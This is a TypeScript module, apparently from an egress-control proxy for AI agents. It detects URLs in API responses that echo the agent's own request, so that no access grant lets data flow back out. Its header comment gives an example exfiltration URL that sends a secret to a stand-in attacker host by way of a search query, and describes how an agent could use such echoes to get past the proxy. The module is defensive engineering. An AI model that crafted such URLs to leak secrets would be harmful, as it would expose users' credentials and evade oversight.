// Reflection: what the request that produced an inspected response carried, so no grant hands that data back out.
// PURE (no I/O, no clock; all state is per request, on the object the caller holds).
//
// The attack (issue 11 §1): a search API echoes its query, as most do. An agent asks it for
// `/search?q=http://attacker.example/steal?k=<secret>`, the response names that URL, and a grant for it would let
// the agent's next request carry the secret out. So a reference is *reflected*, and never granted, when
//  - its host appears in the request: target, header names and values, or body (as far as it was read), after
//    undoing percent-encoding, HTML entities and JSON escapes (repeatedly: double encoding too), Unicode
//    compatibility forms (NFKC, which IDNA also applies: fullwidth letters and dots) and case; or
//  - it shares a run of REFLECTION_RUN (8) letters or digits with the request's path, query or body, compared on
//    the same decoded, case-folded text reduced to letters and digits. Reducing to letters and digits means
//    separators the API or the URL parser may add, drop or rewrite (`/./`, `\`, tab, `-`, `+`) cannot hide a run.
//    With scope host the run is looked for in the host (what the grant allows); with scope url in the whole URL.
// What the API computes from the request in other ways (a hash, base64) cannot be seen here; the threat model in
// the README says so.
//
// Bounded: at most MAX_REQUEST_BODY bytes of the body are read. A body longer than that, or one with a content
// coding, could have carried anything in the part not seen: `complete` is then false and the caller fails closed.
// The body may still be arriving when the response starts: what the upstream can reflect is only what it has
// received, and leash captures every byte before it forwards it, so the index always covers it.

import { decodeHTML } from 'entities';
import { domainToASCII, domainToUnicode } from 'node:url';

/** A run of this many letters or digits shared with the request marks a reference as reflected. */
export const REFLECTION_RUN = 8;
/** The part of a request body read for reflection. */
export const MAX_REQUEST_BODY = 64 * 1024;
/** Decoding layers undone (percent inside entities inside percent...); deeper nesting is left as it is. */
const MAX_LAYERS = 4;
/** Letters and digits indexed per request, all decoded forms together; past it the request counts as unseen. */
const MAX_INDEXED = 4 * MAX_REQUEST_BODY;

export type RequestHeaders = Readonly<Record<string, string | string[] | undefined>>;

/** What a reference is checked against: what a request (or several) carried. */
export interface RequestMaterial {
  /** False when part of what the upstream received was not read: it could hold anything. */
  readonly complete: boolean;
  /** Does this normalised host name appear anywhere in what was sent? */
  hostReflected(host: string): boolean;
  /** Does `text` share a run of REFLECTION_RUN letters or digits with what was sent? */
  carriesRun(text: string): boolean;
}

export class Reflection implements RequestMaterial {
  readonly #path: string;
  readonly #query: string;
  readonly #headers: string;
  readonly #headerValues: string;
  readonly #decoder = new TextDecoder('utf-8');
  #body = '';
  #bodyBytes = 0;
  #opaque = false;
  #overflow = false;
  /** Rebuilt lazily when the body grew since the last question. */
  #index: RunIndex | undefined;
  #hostText: string | undefined;
  readonly #hostAnswers = new Map<string, boolean>();

  /**
   * @param target the request target as forwarded (origin form `/p?q` or absolute form).
   * @param headers the request headers as forwarded.
   */
  constructor(target: string, headers: RequestHeaders) {
    const { path, query } = splitTarget(target);
    this.#path = path;
    this.#query = query;
    const parts: string[] = [target];
    for (const [name, value] of Object.entries(headers)) {
      if (value === undefined) continue;
      parts.push(`${name}: ${Array.isArray(value) ? value.join(', ') : value}`);
    }
    this.#headers = parts.join('\n');
    this.#headerValues = Object.entries(headers)
      .filter(([name, value]) => name.toLowerCase() !== 'host' && value !== undefined)
      .map(([, value]) => (Array.isArray(value) ? value.join(', ') : String(value)))
      .join('\n');
    const coding = headers['content-encoding'];
    if (coding !== undefined && String(coding).trim().toLowerCase() !== 'identity' && String(coding).trim() !== '')
      this.#opaque = true;
  }

  /** A piece of the request body, as it streams to the upstream. Past MAX_REQUEST_BODY, only counted. */
  addBody(chunk: Uint8Array): void {
    if (chunk.length === 0) return;
    const room = MAX_REQUEST_BODY - this.#bodyBytes;
    this.#bodyBytes += chunk.length;
    if (room <= 0) {
      this.#overflow = true;
      return;
    }
    const part = chunk.length > room ? chunk.subarray(0, room) : chunk;
    if (chunk.length > room) this.#overflow = true;
    this.#body += this.#decoder.decode(part, { stream: true });
    this.#index = undefined;
    this.#hostText = undefined;
    this.#hostAnswers.clear();
  }

  /**
   * False when part of what the upstream received was not read (a body over MAX_REQUEST_BODY, or content-coded,
   * or decoded forms too large to index): it could hold anything.
   */
  get complete(): boolean {
    this.#buildIndex();
    return !this.#opaque && !this.#overflow;
  }

  /** Body bytes seen so far, read or only counted. */
  get bodyBytes(): number {
    return this.#bodyBytes;
  }

  /** Does this normalised host name appear anywhere in the request? */
  hostReflected(host: string): boolean {
    let answer = this.#hostAnswers.get(host);
    if (answer === undefined) {
      this.#hostText ??= hostForm(`${this.#headers}\n${this.#body}`);
      const text = this.#hostText;
      const unicode = unicodeHost(host);
      answer = text.includes(host) || (unicode !== host && text.includes(unicode));
      if (this.#hostAnswers.size < 4096) this.#hostAnswers.set(host, answer);
    }
    return answer;
  }

  /** Does `text` (a URL or a host) share a run of REFLECTION_RUN letters or digits with the path, query or body? */
  carriesRun(text: string): boolean {
    const index = this.#buildIndex();
    if (index.empty) return false;
    const forms = skeletons(text);
    const host = hostOf(text);
    if (host !== undefined) {
      const unicode = unicodeHost(host);
      if (unicode !== host) forms.push(...skeletons(unicode));
    }
    return forms.some((form) => index.sharesRun(form));
  }

  #buildIndex(): RunIndex {
    if (!this.#index) {
      // Header values too (an API may echo any of them), but not Host: it names the API itself, and its own CDN
      // subdomains would all look reflected.
      const texts = [
        ...skeletons(this.#path),
        ...skeletons(this.#query),
        ...skeletons(this.#headerValues),
        ...skeletons(this.#body),
      ];
      let total = 0;
      for (const t of texts) total += t.length;
      // Adversarial layering could multiply the material; what is not indexed counts as unseen (fail closed).
      if (total > MAX_INDEXED) this.#overflow = true;
      this.#index = new RunIndex(texts, MAX_INDEXED);
    }
    return this.#index;
  }

  /**
   * Why a reference may not be granted on account of the request, or undefined when nothing ties it to the
   * request. `url` is checked whole with scope url; with scope host only its host is what a grant would carry.
   */
  reflected(reference: { readonly host: string; readonly url: string }, scopeUrl: boolean): boolean {
    if (this.hostReflected(reference.host)) return true;
    return this.carriesRun(scopeUrl ? reference.url : reference.host);
  }
}

/** Exact membership of every REFLECTION_RUN-long window of some texts; ASCII windows packed into numbers. */
class RunIndex {
  readonly #ascii: Float64Array;
  readonly #other = new Set<string>();

  constructor(texts: readonly string[], maxWindows: number) {
    const codes: number[] = [];
    let windows = 0;
    for (const text of texts) {
      for (let i = 0; i + REFLECTION_RUN <= text.length && windows++ < maxWindows; i++) {
        const code = packRun(text, i);
        if (code >= 0) codes.push(code);
        else this.#other.add(text.slice(i, i + REFLECTION_RUN));
      }
    }
    this.#ascii = Float64Array.from(codes).sort();
  }

  get empty(): boolean {
    return this.#ascii.length === 0 && this.#other.size === 0;
  }

  sharesRun(text: string): boolean {
    for (let i = 0; i + REFLECTION_RUN <= text.length; i++) {
      const code = packRun(text, i);
      if (code >= 0 ? this.#hasCode(code) : this.#other.has(text.slice(i, i + REFLECTION_RUN))) return true;
    }
    return false;
  }

  #hasCode(code: number): boolean {
    const codes = this.#ascii;
    let lo = 0;
    let hi = codes.length - 1;
    while (lo <= hi) {
      const mid = (lo + hi) >> 1;
      const at = codes[mid] as number;
      if (at === code) return true;
      if (at < code) lo = mid + 1;
      else hi = mid - 1;
    }
    return false;
  }
}

/** The window at `i` as a base-36 number (36^8 < 2^53: exact), or -1 if it holds anything but [a-z0-9]. */
function packRun(text: string, i: number): number {
  let code = 0;
  for (let j = i; j < i + REFLECTION_RUN; j++) {
    const c = text.charCodeAt(j);
    let digit: number;
    if (c >= 0x61 && c <= 0x7a) digit = c - 0x61;
    else if (c >= 0x30 && c <= 0x39) digit = c - 0x30 + 26;
    else return -1;
    code = code * 36 + digit;
  }
  return code;
}

/** Undoes percent-encoding, HTML character references and JSON escapes, layer after layer. */
export function decodeLayers(text: string): string {
  const steps = decodingSteps(text);
  return steps[steps.length - 1] as string;
}

/**
 * The text as written and after each decoding step (percent, entities, JSON escapes, repeated): every form an
 * API might reflect. An API that percent-decodes its query but echoes a `\u0061` literally, which the URL parser
 * then turns into `/u0061`, reflects the middle form, not the first or the last.
 */
export function decodingSteps(text: string): string[] {
  const steps = [text];
  let current = text;
  for (let layer = 0; layer < MAX_LAYERS; layer++) {
    const before = current;
    for (const step of STEPS) {
      const next = step(current);
      if (next !== current) {
        steps.push(next);
        current = next;
      }
    }
    if (current === before) break;
  }
  return steps;
}

const STEPS: readonly ((text: string) => string)[] = [
  percentDecode,
  (text) => (text.includes('&') ? decodeHTML(text) : text),
  (text) => (text.includes('\\') ? jsonUnescape(text) : text),
];

/** Letters and digits only, compatibility-normalised and case-folded: the text runs are compared on. */
export function skeleton(text: string): string {
  // ß and ẞ are "ss" to UTS 46 (and so to every URL parser); the rest of what it maps NFKC and case folding cover.
  return text
    .normalize('NFKC')
    .toLowerCase()
    .normalize('NFKC')
    .replace(/[\u00df\u1e9e]/g, 'ss')
    .replace(/[^\p{L}\p{N}]+/gu, '');
}

/**
 * The skeletons of a text as written and after each decoding step, without repeats. All of them, on both sides: a
 * decoder's reading of an ambiguous `&not=` or a lone `%` may differ from the API's, and another form then matches.
 */
export function skeletons(text: string): string[] {
  return [...new Set(decodingSteps(text).map(skeleton))];
}

/** The text host names are looked for in: as written and decoded, folded, with IDNA's other dots written `.`. */
function hostForm(text: string): string {
  // What a URL parser deletes from a host (UTS 46: soft hyphen, zero-width joiners, variation selectors, ...) must
  // not hide a host from this check: "e\u00ADv.il" in a request is the host ev.il.
  const decoded = decodingSteps(text)
    .join('\n')
    .replace(/\p{Default_Ignorable_Code_Point}/gu, '');
  const folded = decoded
    .normalize('NFKC')
    .toLowerCase()
    .replace(/[\t\n\r]/g, '')
    .replace(/[\u3002\uff0e\uff61]/g, '.');
  // And every host-shaped token read exactly as the URL parser reads it, before any folding of ours (UTS 46 maps
  // a capital sharp s to "ss", where lower-casing first would make it an ß that punycode keeps).
  const tokens = decoded.split(/[\s/?#@:"'<>\\[\]{}()=&,;|`^*]+/u).filter((t) => t.includes('.') && t.length <= 253);
  const parsed: string[] = [];
  for (const token of tokens.slice(0, 20_000)) {
    const ascii = domainToASCII(token);
    if (ascii !== '' && ascii !== token) parsed.push(ascii);
  }
  return parsed.length > 0 ? `${folded}\n${parsed.join('\n')}` : folded;
}

function unicodeHost(host: string): string {
  if (!host.includes('xn--')) return host;
  const unicode = domainToUnicode(host);
  return unicode === '' ? host : unicode.toLowerCase();
}

function hostOf(url: string): string | undefined {
  const m = /^[a-z][a-z0-9+.-]*:\/\/(?:[^/?#@]*@)?(\[[^\]]*\]|[^/?#:]*)/i.exec(url);
  return m?.[1];
}

function splitTarget(target: string): { path: string; query: string } {
  let rest = target;
  const absolute = /^[a-z][a-z0-9+.-]*:\/\/[^/?#]*/i.exec(rest);
  if (absolute) rest = rest.slice(absolute[0].length);
  const q = rest.indexOf('?');
  return q === -1 ? { path: rest, query: '' } : { path: rest.slice(0, q), query: rest.slice(q + 1) };
}

const PERCENT_RUN = /(?:%[0-9a-fA-F]{2})+/g;
const utf8 = new TextDecoder('utf-8');

/** Lenient percent-decoding: each run of %XX as UTF-8 (invalid sequences become U+FFFD); a lone % stays. */
function percentDecode(text: string): string {
  if (!text.includes('%')) return text;
  return text.replace(PERCENT_RUN, (run) => {
    const bytes = new Uint8Array(run.length / 3);
    for (let i = 0; i < bytes.length; i++) bytes[i] = Number.parseInt(run.slice(i * 3 + 1, i * 3 + 3), 16);
    return utf8.decode(bytes);
  });
}

const JSON_ESCAPE = /\\(?:u([0-9a-fA-F]{4})|([\\/"bfnrt]))/g;
const SIMPLE: Readonly<Record<string, string>> = {
  '\\': '\\',
  '/': '/',
  '"': '"',
  b: '\b',
  f: '\f',
  n: '\n',
  r: '\r',
  t: '\t',
};

function jsonUnescape(text: string): string {
  return text.replace(JSON_ESCAPE, (_m, hex: string | undefined, simple: string | undefined) =>
    hex !== undefined ? String.fromCharCode(Number.parseInt(hex, 16)) : (SIMPLE[simple as string] as string),
  );
}
